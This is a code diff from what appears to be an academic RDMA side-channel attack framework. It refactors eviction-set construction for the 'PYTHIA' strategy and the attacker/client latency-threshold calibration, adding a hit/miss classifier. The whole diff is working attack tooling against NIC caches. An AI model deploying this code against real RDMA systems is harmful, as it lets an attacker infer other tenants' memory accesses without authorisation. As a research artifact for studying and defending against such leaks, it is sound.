@@ -158,23 +158,27 @@ void rsec_access_mr(struct ibv_cq *tar_cq, struct ibv_qp *tar_qp,
 
 /**
  * rsec_form_sub_mr - form a subset of mr based on target evicted mr address
- * @evict_mr_list: all available mr list
+ * @mr_view: all available mr
+ * @first: index of the target evicted mr in mr_view
  * @length: length of the access mr list
  * @access_order: can manually setup access order if needed
+ * @arena: allocator of the returned list
  */
-struct ib_mr_attr **rsec_form_sub_mr(struct ib_mr_attr *evict_mr_list,
-                                     int length, int *access_order) {
-    struct ib_mr_attr **ret_mr_list;
+struct ib_mr_attr **rsec_form_sub_mr(struct rsec_mr_view *mr_view,
+                                     long long first, int length,
+                                     int *access_order,
+                                     struct rsec_arena *arena) {
+    struct ib_mr_attr **ret_mr_list, *ret_mr_space;
     int i;
-    ret_mr_list = malloc(sizeof(struct ib_mr_attr *) * length);
+    ret_mr_list = rsec_arena_alloc(arena, sizeof(struct ib_mr_attr *) * length);
+    ret_mr_space = rsec_arena_alloc(arena, sizeof(struct ib_mr_attr) * length);
     for (i = 0; i < length; i++) {
-        ret_mr_list[i] = malloc(sizeof(struct ib_mr_attr));
+        ret_mr_list[i] = &ret_mr_space[i];
         if (!access_order)
-            memcpy(ret_mr_list[i], &evict_mr_list[i],
-                   sizeof(struct ib_mr_attr));
+            rsec_mr_view_get(mr_view, first + i, ret_mr_list[i]);
         else
-            memcpy(ret_mr_list[i], &evict_mr_list[access_order[i]],
-                   sizeof(struct ib_mr_attr));
+            rsec_mr_view_get(mr_view, first + access_order[i],
+                             ret_mr_list[i]);
     }
     return ret_mr_list;
 }
@@ -188,19 +192,23 @@ struct ib_mr_attr **rsec_form_sub_mr(struct ib_mr_attr *evict_mr_list,
  * @real_process_number: return MR set size
  * @total_accessible_mr: length of evict_mr_list
  * @stride_distance: manually setup a distance to pick different MRs
+ * @arena: allocator of the returned list
  */
 struct ib_mr_attr **rsec_form_attack_sub_mr(
     uint32_t target_rkey, struct ib_mr_attr *evict_mr_list, int required_mr_num,
-    int *real_process_number, int total_accessible_mr, int stride_distance) {
+    int *real_process_number, int total_accessible_mr, int stride_distance,
+    struct rsec_arena *arena) {
     struct ib_mr_attr **ret_mr_list, *ret_mr_space;
     int count = 0;
     int i;
     int target_rkey_mod;
     GList *group_list[RSEC_MR_MOD_NUMBER];
     // build hashtable
-    ret_mr_space = malloc(sizeof(struct ib_mr_attr) * required_mr_num);
+    ret_mr_space =
+        rsec_arena_alloc(arena, sizeof(struct ib_mr_attr) * required_mr_num);
 
-    ret_mr_list = malloc(required_mr_num * sizeof(struct ib_mr_attr *));
+    ret_mr_list =
+        rsec_arena_alloc(arena, required_mr_num * sizeof(struct ib_mr_attr *));
     for (i = 0; i < required_mr_num; i++) ret_mr_list[i] = &ret_mr_space[i];
     assert(required_mr_num <= total_accessible_mr);
     if (stride_distance == RSEC_MR_UNIFORM_PICK_NUMBER)  // uniform pick
@@ -263,105 +271,44 @@ struct ib_mr_attr **rsec_form_attack_sub_mr(
 }
 
 /**
- * rsec_form_wr_list - form a wr based on sge and request
- * which is used to build a pre-configured wr to get rid of setting sge/wr for
- * every access
+ * rsec_stride_next - first stride position at or after @pos
+ * Positions are the multiples of @stride from RSEC_PROBE_DEFAULT_START_DISTANCE
+ * on, except the ones closer than RSEC_PROBE_START_DISTANCE to the target.
+ * Returns -1 past the end of the MR.
+ * @pos: page index
+ * @stride: stride (pages)
+ * @access_target: target page index
+ * @total_accessible_mr: number of pages
  */
-struct ibv_send_wr **rsec_form_wr_list(struct ibv_mr *temp_mr,
-                                       struct ib_mr_attr **sub_evict_mr_list,
-                                       struct ibv_sge *input_sge,
-                                       int real_process_mr_number,
-                                       uint32_t extra_rkey,
-                                       uint64_t extra_offset) {
-    int total_wr_length =
-        RSEC_ROUND_UP(real_process_mr_number, RSEC_CQ_DEPTH) / RSEC_CQ_DEPTH;
-    int i;
-    struct ibv_send_wr *wr;
-    int count = 0;
-    struct ibv_send_wr **input_wr_list;
-    input_wr_list = malloc(sizeof(struct ibv_send_wr *) * total_wr_length);
-    for (i = 0; i < total_wr_length; i++) {
-        input_wr_list[i] = malloc(sizeof(struct ibv_send_wr) * RSEC_CQ_DEPTH);
-        memset(input_wr_list[i], 0, sizeof(struct ibv_send_wr) * RSEC_CQ_DEPTH);
-    }
-
-    {
-        input_sge->length = RSEC_EVICT_MR_SIZE;
-        input_sge->addr = (uintptr_t)temp_mr->addr;
-        input_sge->lkey = temp_mr->lkey;
-        for (i = 0; i < real_process_mr_number; i++) {
-            wr = input_wr_list[i / RSEC_CQ_DEPTH];
-            if (RSEC_EVICT_MODE == RSEC_OPERATION_WRITE)
-                wr[count].opcode = IBV_WR_RDMA_WRITE;
-            else
-                wr[count].opcode = IBV_WR_RDMA_READ;
-            wr[count].num_sge = 1;
-            wr[count].sg_list = input_sge;
-            wr[count].send_flags = 0;
-            wr[count].wr_id = 0;
-            wr[count].wr.rdma.remote_addr =
-                sub_evict_mr_list[i]->addr + extra_offset;
-            if (extra_rkey)
-                wr[count].wr.rdma.rkey = extra_rkey;
-            else
-                wr[count].wr.rdma.rkey = sub_evict_mr_list[i]->rkey;
-            wr[count].next = NULL;
-            if (count) wr[count - 1].next = &wr[count];
-            // userspace_one_write(tar_qp, local_mr, RSEC_EVICT_MR_SIZE,
-            // evict_mr_list[order_array[i]], RSEC_EVICT_MR_OFFSET);
-            count++;
-            if (RSEC_EVICT_MODE == RSEC_OPERATION_WRITE)
-                wr[count - 1].send_flags = IBV_SEND_INLINE;
-            else
-                wr[count - 1].send_flags = 0;
-            if (count == RSEC_CQ_DEPTH) {
-                wr[count - 1].send_flags |= IBV_SEND_SIGNALED;
-                count = 0;
-            }
-        }
-        if (count != 0 && count != RSEC_CQ_DEPTH)
-            wr[count - 1].send_flags |= IBV_SEND_SIGNALED;
-    }
-    return input_wr_list;
+static long rsec_stride_next(long pos, long stride, long access_target,
+                             long total_accessible_mr) {
+    long start = RSEC_PROBE_DEFAULT_START_DISTANCE / RSEC_MR_SIZE;
+    long near = (long)RSEC_PROBE_START_DISTANCE / (long)RSEC_MR_SIZE;
+    if (pos < start) pos = RSEC_ROUND_UP(start, stride);
+    if (pos > access_target - near && pos < access_target + near)
+        pos = RSEC_ROUND_UP(access_target + near, stride);
+    return pos < total_accessible_mr ? pos : -1;
 }
 
 /**
- * rsec_form_sub_mr_new - form a list of attack mr based on target mr address
- * @evict_mr_list: available mr list
- * @total_accessible_mr: length of evict_mr_list
- * @collision_check: avoid accessing same page in set
- * @real_process_mr_number: return the length of finalized access list
+ * rsec_stride_plan - resolve the stride walk of an eviction set
+ * Fills the strategy, stride, offsets and size of @key; the offsets are the
+ * pages taken at every stride position (the PYTHIA bucket pair).
+ * @key: return the walk
+ * @target_mr_num: requested eviction set size
  * @custom_shift: shift of the access offset [rsec_control.c]
  * @access_target: target evict page
- * @index_set: returned access index set - evict set
- * @custom_stride_distance: manually setup the stride distance [rsec_control.c]
- * @custom_rkey: setup different rkey [rsec_controlc]
- * @stride_strategy: different attack strategy [recommended PYTHIA]
+ * @custom_stride_distance: manually setup the stride distance
+ * @custom_rkey: setup different rkey
+ * @stride_strategy: RSEC_PROBE_STRIDE_STRATEGY_*
  */
-struct ib_mr_attr __attribute__((optimize("O0"))) *
-    *rsec_form_attack_sub_mr_new(struct ib_mr_attr *evict_mr_list,
-                                 int target_mr_num, int total_accessible_mr,
-                                 int collision_check,
-                                 int *real_process_mr_number, int custom_shift,
-                                 int access_target,
-                                 struct return_int *index_set,
-                                 int custom_stride_distance, int custom_rkey,
-                                 int stride_strategy) {
-    struct ib_mr_attr **candidate_list, *candidate_space;
-    struct ib_mr_attr *potential_candidate_set;
-    int loop_index, target_index = 0;
-    // int count = 0;
-    int potential_candidate_count = 0;
-    // int wrap_times = 0;
-    // int hashtable_check;
-    // void *pointer_to_key, *pointer_to_value_record;
-    // void *garbage_pointer = (void *)0xcafe;
-    int duplicate_flag = 0;
-    int print_flag = 1;
+static void rsec_stride_plan(struct rsec_evict_key *key, int target_mr_num,
+                             int custom_shift, int access_target,
+                             int custom_stride_distance, int custom_rkey,
+                             int stride_strategy) {
     int stride_distance;
     int shift_amount = 0;
     int PYTHIA_K = 13;
-    // build hashtable
 
     if (custom_stride_distance)
         stride_distance = (custom_stride_distance / RSEC_PAGE_SIZE);
@@ -391,161 +338,156 @@ struct ib_mr_attr __attribute__((optimize("O0"))) *
         default:
             RSEC_ERROR("wrong strategy mode: %d\n", stride_strategy);
     }
+    assert(stride_distance > 0);
 
-    index_set->index_distance = -1;
-    index_set->real_distance = -1;
-    index_set->first = -1;
-    index_set->last = -1;
-
-    // assert(length<=total_accessible_mr);
-    if (target_mr_num > total_accessible_mr) {
-        // RSEC_PRINT("it's not enough to form a full matrix - use duplicate
-        // access instead %d:%d\n", target_mr_num, total_accessible_mr);
-        /*if(!RSEC_PROBE_ACCEPT_WRAP_UP)
-            assert(target_mr_num<=total_accessible_mr);*/
-    }
-    if (RSEC_PROBE_ACCEPT_WRAP_UP) duplicate_flag = 1;
-    candidate_list = malloc(sizeof(struct ib_mr_attr *) * target_mr_num);
-    candidate_space = malloc(sizeof(struct ib_mr_attr) * target_mr_num);
-    // potential_candidate_set = malloc(sizeof(struct ib_mr_attr) *
-    // total_accessible_mr);
-    potential_candidate_set = malloc(sizeof(struct ib_mr_attr) * target_mr_num);
-    long long int distance;
-    // loop through all mr to find potential set
-    int bucket_1;
-    int bucket_2;
+    memset(key, 0, sizeof(struct rsec_evict_key));
+    key->strategy = stride_strategy;
+    key->stride = stride_distance;
+    key->size = target_mr_num;
+    key->num_offsets = 1;
     if (stride_strategy == RSEC_PROBE_STRIDE_STRATEGY_PYTHIA) {
         if (custom_rkey >= 0) {
-            bucket_1 = ((access_target >> 9) % (1 << PYTHIA_K) >> 3) * 8;
-            bucket_2 = ((access_target) % (1 << PYTHIA_K) >> 3) * 8;
-            if (bucket_1 == bucket_2) target_mr_num = target_mr_num / 2;
+            key->offset[0] = ((access_target >> 9) % (1 << PYTHIA_K) >> 3) * 8;
+            key->offset[1] = ((access_target) % (1 << PYTHIA_K) >> 3) * 8;
+            if (key->offset[0] == key->offset[1])
+                key->size = target_mr_num / 2;
         } else {
-            bucket_1 =
+            key->offset[0] =
                 ((access_target >> (-custom_rkey)) % (1 << PYTHIA_K) >> 3) * 8;
-            bucket_2 = -1;
+            key->offset[1] = -1;
         }
+        if (key->offset[0] != key->offset[1]) key->num_offsets = 2;
+    } else {
+        key->offset[0] = shift_amount;
     }
-    if (stride_strategy == RSEC_PROBE_STRIDE_STRATEGY_PYTHIA) {
-        for (loop_index = 0; loop_index < total_accessible_mr;
-             loop_index = loop_index + stride_distance) {
-            target_index = 0;
-            distance = loop_index - access_target;
-            if (loop_index < (RSEC_PROBE_DEFAULT_START_DISTANCE / RSEC_MR_SIZE))
-                continue;
-            if (RSEC_ABS(distance) <
-                ((long)RSEC_PROBE_START_DISTANCE / (long)RSEC_MR_SIZE))
-                continue;
-            target_index = loop_index + bucket_1;
-            memcpy(&potential_candidate_set[potential_candidate_count],
-                   &evict_mr_list[target_index], sizeof(struct ib_mr_attr));
-            potential_candidate_count++;
-            if (potential_candidate_count == target_mr_num) {
-                RSEC_PRINT("index: %d \t distance:%lld %d:%d\n", target_index,
-                           distance, RSEC_EVICT_MR_PROCESS_NUMBER,
-                           RSEC_PROBE_STRIDE_DISTANCE);
-                index_set->last = target_index;
-                break;
-            }
-            if (print_flag < 5) {
-                // RSEC_PRINT(
-                //    "index: %d:%d \t distance:%lld %d:%d bucket: %d:%d\n",
-                //    target_index, loop_index, distance,
-                //    RSEC_EVICT_MR_PROCESS_NUMBER, RSEC_PROBE_STRIDE_DISTANCE,
-                //    bucket_1, bucket_2);
-                if (print_flag == 1) index_set->first = target_index;
-                index_set->index_distance = stride_distance;
-                index_set->real_distance = RSEC_PROBE_STRIDE_DISTANCE;
-                print_flag++;
-            }
-            if (bucket_1 == bucket_2) continue;
-            target_index = loop_index + bucket_2;
-            memcpy(&potential_candidate_set[potential_candidate_count],
-                   &evict_mr_list[target_index], sizeof(struct ib_mr_attr));
-            potential_candidate_count++;
-            if (potential_candidate_count == target_mr_num) {
-                // RSEC_PRINT("index: %d \t distance:%lld %d:%d\n",
-                // target_index,
-                //           distance, RSEC_EVICT_MR_PROCESS_NUMBER,
-                //           RSEC_PROBE_STRIDE_DISTANCE);
-                index_set->last = target_index;
-                break;
-            }
-            if (print_flag < 5) {
-                // RSEC_PRINT(
-                //    "index: %d:%d \t distance:%lld %d:%d bucket: %d:%d\n",
-                //    target_index, loop_index, distance,
-                //    RSEC_EVICT_MR_PROCESS_NUMBER, RSEC_PROBE_STRIDE_DISTANCE,
-                //    bucket_1, bucket_2);
-                if (print_flag == 1) index_set->first = target_index;
-                index_set->index_distance = stride_distance;
-                index_set->real_distance = RSEC_PROBE_STRIDE_DISTANCE;
-                print_flag++;
-            }
+}
+
+/**
+ * rsec_attack_sub_mr_key - cache key of rsec_form_attack_sub_mr_new
+ * Two calls with the same key return the same eviction set: besides the
+ * stride walk, the key holds the stride positions skipped around the target
+ * (-1 if the skip does not reach the positions the set uses).
+ * @key: return the key
+ * Other parameters are the ones of rsec_form_attack_sub_mr_new.
+ */
+void rsec_attack_sub_mr_key(struct rsec_evict_key *key, int target_mr_num,
+                            int total_accessible_mr, int custom_shift,
+                            int access_target, int custom_stride_distance,
+                            int custom_rkey, int stride_strategy) {
+    long start = RSEC_PROBE_DEFAULT_START_DISTANCE / RSEC_MR_SIZE;
+    long near = (long)RSEC_PROBE_START_DISTANCE / (long)RSEC_MR_SIZE;
+    long num_positions, first, last, skip_first, skip_last;
+    rsec_stride_plan(key, target_mr_num, custom_shift, access_target,
+                     custom_stride_distance, custom_rkey, stride_strategy);
+    // stride positions used by the set when nothing is skipped
+    num_positions =
+        RSEC_ROUND_UP(key->size, key->num_offsets) / key->num_offsets;
+    first = RSEC_ROUND_UP(start, key->stride);
+    last = first + (num_positions - 1) * key->stride;
+    skip_first = RSEC_MAX(
+        RSEC_ROUND_UP(access_target - near + 1, key->stride), first);
+    skip_last = (access_target + near - 1) / key->stride * key->stride;
+    if (skip_first > skip_last || skip_first > last ||
+        skip_first >= total_accessible_mr)
+        skip_first = skip_last = -1;
+    key->skip_first = skip_first;
+    key->skip_last = skip_last;
+}
 
-            if (loop_index == total_accessible_mr - 1 && duplicate_flag == 1)
-                loop_index = 0;
+/**
+ * rsec_form_sub_mr_new - form a list of attack mr based on target mr address
+ * @mr_view: available mr
+ * @total_accessible_mr: number of mr used from mr_view
+ * @collision_check: avoid accessing same page in set
+ * @real_process_mr_number: return the length of finalized access list
+ * @custom_shift: shift of the access offset [rsec_control.c]
+ * @access_target: target evict page
+ * @index_set: returned access index set - evict set
+ * @custom_stride_distance: manually setup the stride distance [rsec_control.c]
+ * @custom_rkey: setup different rkey [rsec_controlc]
+ * @stride_strategy: different attack strategy [recommended PYTHIA]
+ * @arena: allocator of the returned list [rsec_arena.h]
+ */
+struct ib_mr_attr **rsec_form_attack_sub_mr_new(
+    struct rsec_mr_view *mr_view, int target_mr_num,
+    int total_accessible_mr, int collision_check, int *real_process_mr_number,
+    int custom_shift, int access_target, struct return_int *index_set,
+    int custom_stride_distance, int custom_rkey, int stride_strategy,
+    struct rsec_arena *arena) {
+    struct ib_mr_attr **candidate_list, *candidate_space;
+    long loop_index, target_index = 0, first_index = -1;
+    int candidate_count = 0;
+    int duplicate_flag = 0;
+    int stride_distance, num_offsets, i;
+    struct rsec_evict_key plan;
+
+    rsec_stride_plan(&plan, target_mr_num, custom_shift, access_target,
+                     custom_stride_distance, custom_rkey, stride_strategy);
+    stride_distance = plan.stride;
+    num_offsets = plan.num_offsets;
+
+    index_set->index_distance = -1;
+    index_set->real_distance = -1;
+    index_set->first = -1;
+    index_set->last = -1;
+
+    if (RSEC_PROBE_ACCEPT_WRAP_UP) duplicate_flag = 1;
+    candidate_list =
+        rsec_arena_alloc(arena, sizeof(struct ib_mr_attr *) * target_mr_num);
+    candidate_space =
+        rsec_arena_alloc(arena, sizeof(struct ib_mr_attr) * target_mr_num);
+    assert(candidate_list && candidate_space);
+    target_mr_num = plan.size;
+    // stride positions are computed directly, candidates go straight into
+    // the returned list
+    for (loop_index = rsec_stride_next(0, stride_distance, access_target,
+                                       total_accessible_mr);
+         loop_index >= 0 && candidate_count < target_mr_num;
+         loop_index = rsec_stride_next(loop_index + stride_distance,
+                                       stride_distance, access_target,
+                                       total_accessible_mr)) {
+        for (i = 0; i < num_offsets && candidate_count < target_mr_num; i++) {
+            target_index = loop_index + plan.offset[i];
+            if (!candidate_count) first_index = target_index;
+            rsec_mr_view_get(mr_view, target_index,
+                             &candidate_space[candidate_count]);
+            candidate_list[candidate_count] = &candidate_space[candidate_count];
+            candidate_count++;
         }
-    } else {
-        for (loop_index = 0; loop_index < total_accessible_mr;
-             loop_index = loop_index + stride_distance) {
-            target_index = 0;
-            distance = loop_index - access_target;
-            if (loop_index < (RSEC_PROBE_DEFAULT_START_DISTANCE / RSEC_MR_SIZE))
-                continue;
-            if (RSEC_ABS(distance) <
-                ((long)RSEC_PROBE_START_DISTANCE / (long)RSEC_MR_SIZE))
-                continue;
-
-            target_index = loop_index + shift_amount;
-            memcpy(&potential_candidate_set[potential_candidate_count],
-                   &evict_mr_list[target_index], sizeof(struct ib_mr_attr));
-            potential_candidate_count++;
-            if (potential_candidate_count == target_mr_num) {
-                // RSEC_PRINT("index: %d \t distance:%lld %d:%d\n",
-                // target_index, distance, RSEC_EVICT_MR_PROCESS_NUMBER,
-                // RSEC_PROBE_STRIDE_DISTANCE);
-                index_set->last = target_index;
-                break;
-            }
-            if (print_flag < 6) {
-                // RSEC_PRINT("index: %d:%d \t distance:%lld %d:%d shift: %d\n",
-                // target_index, loop_index, distance,
-                // RSEC_EVICT_MR_PROCESS_NUMBER, RSEC_PROBE_STRIDE_DISTANCE,
-                // shift_amount);
-                if (print_flag == 1) index_set->first = target_index;
-                index_set->index_distance = stride_distance;
-                index_set->real_distance = RSEC_PROBE_STRIDE_DISTANCE;
-                print_flag++;
-            }
+        if (candidate_count == target_mr_num) {
+            if (stride_strategy == RSEC_PROBE_STRIDE_STRATEGY_PYTHIA)
+                RSEC_PRINT("index: %ld \t distance:%ld %d:%d\n", target_index,
+                           loop_index - access_target,
+                           RSEC_EVICT_MR_PROCESS_NUMBER,
+                           RSEC_PROBE_STRIDE_DISTANCE);
+            index_set->last = target_index;
         }
+        if (loop_index == total_accessible_mr - 1 && duplicate_flag == 1)
+            loop_index = 0;
     }
-
-    if (potential_candidate_count < target_mr_num) {
-        RSEC_PRINT("get %d:%d potential_candidate_count\n",
-                   potential_candidate_count, target_mr_num);
-        potential_candidate_count -= 1;
-        assert(potential_candidate_count >= target_mr_num);
+    if (candidate_count && target_mr_num > 1) {
+        index_set->first = first_index;
+        index_set->index_distance = stride_distance;
+        index_set->real_distance = RSEC_PROBE_STRIDE_DISTANCE;
     }
-    // start building eviction_set from candidate
-    loop_index = 0;
-    for (loop_index = 0; loop_index < potential_candidate_count; loop_index++) {
-        candidate_list[loop_index] = &candidate_space[loop_index];
-        memcpy(candidate_list[loop_index], &potential_candidate_set[loop_index],
-               sizeof(struct ib_mr_attr));
+
+    if (candidate_count < target_mr_num) {
+        RSEC_PRINT("get %d:%d potential_candidate_count\n", candidate_count,
+                   target_mr_num);
+        assert(candidate_count >= target_mr_num);
     }
     if (collision_check == RSEC_PROBE_COLLISION_CHECK_MODE_UNIFORM) {
         assert(candidate_list[2]->addr - candidate_list[1]->addr ==
                candidate_list[1]->addr - candidate_list[0]->addr);
     }
 
-    *real_process_mr_number = potential_candidate_count;
+    *real_process_mr_number = candidate_count;
     if (target_mr_num > total_accessible_mr) {
         RSEC_PRINT(
             "it's not enough to form a full matrix - use duplicate access "
             "instead %d:%d:%d\n",
-            target_mr_num, total_accessible_mr, potential_candidate_count);
+            target_mr_num, total_accessible_mr, candidate_count);
     }
-    free(potential_candidate_set);
     return candidate_list;
 }
 
@@ -555,130 +497,91 @@ struct ib_mr_attr __attribute__((optimize("O0"))) *
  * Attacker needs to get the regular network latency in order determine the
  * difference between hit and evict
  * This part requires client to interact with attacker to learn
- * This code is a basic template which uses average
- * It can also be modified into more sophisticate models such as KNN (what we
- * used to attack Crail)
+ * The averages are returned, and every sample also trains @cls (midpoint,
+ * histogram, GMM or KNN - see rsec_classify.h)
  * @server_cq: the cq used to poll
  * @server_qp: target qp
- * @memory_cq: local cq
- * @memory_qp: target qp
  * @local_mr: local memory space to issue request
  * @single_reload_mr: target reload mr
- * @input_wr_list: input pre-set wr list
- * @total_wr_length: length of input_wr_list
+ * @hwts: reload timer (rsec_hwts.c), NULL on the client side
+ * @evict: eviction set (rsec_evict.c), NULL on the client side
+ * @cls: classifier to train, NULL on the client side
  * @ret_lat_evict: return average latency of a MISS access
  * @ret_lat_hit: return average latency of a HIT access
  * @attacker: attacker=1/client=0
  * @iteration: how many rounds to iterate
+ * @sync: handshake channel to the other side
  */
-int __attribute__((optimize("O0")))
-    rsec_get_threshold(struct ibv_cq *server_cq, struct ibv_qp *server_qp,
-                       struct ibv_cq *memory_cq, struct ibv_qp *memory_qp,
+int rsec_get_threshold(struct ibv_cq *server_cq, struct ibv_qp *server_qp,
                        struct ibv_mr *local_mr,
                        struct ib_mr_attr *single_reload_mr,
-                       struct ibv_send_wr **input_wr_list, int total_wr_length,
-                       double *ret_lat_evict, double *ret_lat_hit, int attacker,
-                       int iteration) {
+                       struct rsec_hwts_inf *hwts,
+                       struct rsec_evict_inf *evict,
+                       struct rsec_classify_inf *cls, double *ret_lat_evict,
+                       double *ret_lat_hit, int attacker, int iteration,
+                       struct rsec_sync_inf *sync) {
     double lat_sum, tmp;
-    struct timespec start, end;
-    int i, per_wr;
-    char *memcached_string = malloc(RSEC_MEMCACHED_STRING_LENGTH);
-    unsigned long signal_output;
+    int i;
     if (attacker) {
         lat_sum = 0;
         for (i = 0; i < RSEC_PROBE_GET_THRESHOLD_TRY_NUMBER; i++) {
             // eviction
-            for (per_wr = 0; per_wr < total_wr_length; per_wr++) {
-                userspace_one_preset(memory_qp, input_wr_list[per_wr]);
-                userspace_one_poll(memory_cq, 1);
-            }
-            memset(memcached_string, 0, RSEC_MEMCACHED_STRING_LENGTH);
-            sprintf(memcached_string, RSEC_WARMUP_STRING_1, iteration, i);
-            memcached_publish(memcached_string, &signal_output,
-                              RSEC_SIGNAL_SIZE);
+            rsec_evict_run(evict);
+            rsec_sync_signal(sync, RSEC_SYNC_SLOT_WARMUP_1, iteration, i, i);
 
             // wait remote to do operation
-            memset(memcached_string, 0, RSEC_MEMCACHED_STRING_LENGTH);
-            sprintf(memcached_string, RSEC_WARMUP_STRING_2, iteration, i);
-            memcached_get_published_size(memcached_string, RSEC_SIGNAL_SIZE);
+            rsec_sync_wait(sync, RSEC_SYNC_SLOT_WARMUP_2, iteration, i);
             // usleep(300);
 
             // remote does an operation - start checking latency - this should
             // be hit
-            // asm volatile("": : :"memory");
-            clock_gettime(CLOCK_MONOTONIC, &start);
-            userspace_one_read(server_qp, local_mr, RSEC_RELOAD_MR_SIZE,
-                               single_reload_mr, RSEC_RELOAD_MR_OFFSET);
-            userspace_one_poll(server_cq, 1);
-            clock_gettime(CLOCK_MONOTONIC, &end);
-            // asm volatile("": : :"memory");
-            tmp = diff_ns(&start, &end);
+            tmp = rsec_hwts_read(hwts, server_qp, server_cq, local_mr,
+                                 RSEC_RELOAD_MR_SIZE, single_reload_mr,
+                                 RSEC_RELOAD_MR_OFFSET);
             lat_sum = lat_sum + tmp;
+            if (cls) rsec_classify_train(cls, RSEC_CLASSIFY_HIT, tmp);
         }
         *ret_lat_hit = lat_sum / RSEC_PROBE_GET_THRESHOLD_TRY_NUMBER;
 
         lat_sum = 0;
         for (i = 0; i < RSEC_PROBE_GET_THRESHOLD_TRY_NUMBER; i++) {
             // eviction
-            for (per_wr = 0; per_wr < total_wr_length; per_wr++) {
-                userspace_one_preset(memory_qp, input_wr_list[per_wr]);
-                userspace_one_poll(memory_cq, 1);
-            }
-            memset(memcached_string, 0, RSEC_MEMCACHED_STRING_LENGTH);
-            sprintf(memcached_string, RSEC_WARMUP_STRING_3, iteration, i);
-            memcached_publish(memcached_string, &signal_output,
-                              RSEC_SIGNAL_SIZE);
+            rsec_evict_run(evict);
+            rsec_sync_signal(sync, RSEC_SYNC_SLOT_WARMUP_3, iteration, i, i);
 
             // wait remote to do operation
             // but remote will do nothing
-            memset(memcached_string, 0, RSEC_MEMCACHED_STRING_LENGTH);
-            sprintf(memcached_string, RSEC_WARMUP_STRING_4, iteration, i);
-            memcached_get_published_size(memcached_string, RSEC_SIGNAL_SIZE);
+            rsec_sync_wait(sync, RSEC_SYNC_SLOT_WARMUP_4, iteration, i);
             // usleep(300);
 
             // remote does an operation - start checking latency - this should
             // be hit
-            // asm volatile("": : :"memory");
-            clock_gettime(CLOCK_MONOTONIC, &start);
-            userspace_one_read(server_qp, local_mr, RSEC_RELOAD_MR_SIZE,
-                               single_reload_mr, RSEC_RELOAD_MR_OFFSET);
-            userspace_one_poll(server_cq, 1);
-            clock_gettime(CLOCK_MONOTONIC, &end);
-            // asm volatile("": : :"memory");
-            tmp = diff_ns(&start, &end);
+            tmp = rsec_hwts_read(hwts, server_qp, server_cq, local_mr,
+                                 RSEC_RELOAD_MR_SIZE, single_reload_mr,
+                                 RSEC_RELOAD_MR_OFFSET);
             lat_sum = lat_sum + tmp;
+            if (cls) rsec_classify_train(cls, RSEC_CLASSIFY_MISS, tmp);
         }
         *ret_lat_evict = lat_sum / RSEC_PROBE_GET_THRESHOLD_TRY_NUMBER;
     } else {
         for (i = 0; i < RSEC_PROBE_GET_THRESHOLD_TRY_NUMBER; i++) {
-            memset(memcached_string, 0, RSEC_MEMCACHED_STRING_LENGTH);
-            sprintf(memcached_string, RSEC_WARMUP_STRING_1, iteration, i);
-            memcached_get_published_size(memcached_string, RSEC_SIGNAL_SIZE);
+            rsec_sync_wait(sync, RSEC_SYNC_SLOT_WARMUP_1, iteration, i);
 
             userspace_one_read(server_qp, local_mr, RSEC_RELOAD_MR_SIZE,
                                single_reload_mr, RSEC_RELOAD_MR_OFFSET);
             userspace_one_poll(server_cq, 1);
 
-            memset(memcached_string, 0, RSEC_MEMCACHED_STRING_LENGTH);
-            sprintf(memcached_string, RSEC_WARMUP_STRING_2, iteration, i);
-            memcached_publish(memcached_string, &signal_output,
-                              RSEC_SIGNAL_SIZE);
+            rsec_sync_signal(sync, RSEC_SYNC_SLOT_WARMUP_2, iteration, i, i);
         }
 
         for (i = 0; i < RSEC_PROBE_GET_THRESHOLD_TRY_NUMBER; i++) {
-            memset(memcached_string, 0, RSEC_MEMCACHED_STRING_LENGTH);
-            sprintf(memcached_string, RSEC_WARMUP_STRING_3, iteration, i);
-            memcached_get_published_size(memcached_string, RSEC_SIGNAL_SIZE);
+            rsec_sync_wait(sync, RSEC_SYNC_SLOT_WARMUP_3, iteration, i);
 
             // NO ACCESS THIS TIME
 
-            memset(memcached_string, 0, RSEC_MEMCACHED_STRING_LENGTH);
-            sprintf(memcached_string, RSEC_WARMUP_STRING_4, iteration, i);
-            memcached_publish(memcached_string, &signal_output,
-                              RSEC_SIGNAL_SIZE);
+            rsec_sync_signal(sync, RSEC_SYNC_SLOT_WARMUP_4, iteration, i, i);
         }
     }
-    free(memcached_string);
     if (attacker && ((*ret_lat_evict < *ret_lat_hit) ||
                      (*ret_lat_evict >
                       *ret_lat_hit + RSEC_ESTIMATED_EVICT_FETCH_LATENCY_MAX)))